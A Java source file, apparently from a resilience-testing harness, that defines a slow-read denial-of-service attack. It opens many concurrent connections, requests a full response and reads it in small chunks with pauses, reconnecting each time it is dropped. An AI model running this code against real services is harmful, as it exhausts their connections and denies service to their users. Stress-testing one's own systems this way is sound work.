package dev.waybill.system.siege;

import dev.waybill.system.hostile.RawConnection;
import java.io.IOException;
import java.net.InetAddress;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;

/**
 * Callers who ask for everything and take it a little at a time.
 *
 * @param request the whole request
 */
record SlowReaders(String name, int port, int readers, String request) implements Attack {

    private static final int BYTES = 4096;
    private static final int PAUSE_MILLIS = 500;

    @Override
    public void run(InetAddress from) throws InterruptedException {
        ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
        try {
            for (int i = 0; i < readers; i++) {
                threads.execute(() -> readAgainAndAgain(from));
            }
            threads.awaitTermination(Long.MAX_VALUE, TimeUnit.NANOSECONDS);
        } finally {
            threads.shutdownNow();
        }
    }

    private void readAgainAndAgain(InetAddress from) {
        try {
            while (!Thread.currentThread().isInterrupted()) {
                try (RawConnection connection = new RawConnection(port, from)) {
                    connection.send(request);
                    while (connection.read(BYTES)) {
                        TimeUnit.MILLISECONDS.sleep(PAUSE_MILLIS);
                    }
                } catch (IOException ended) {
                    // The service has had enough of this one.
                }
                TimeUnit.MILLISECONDS.sleep(PAUSE_MILLIS);
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
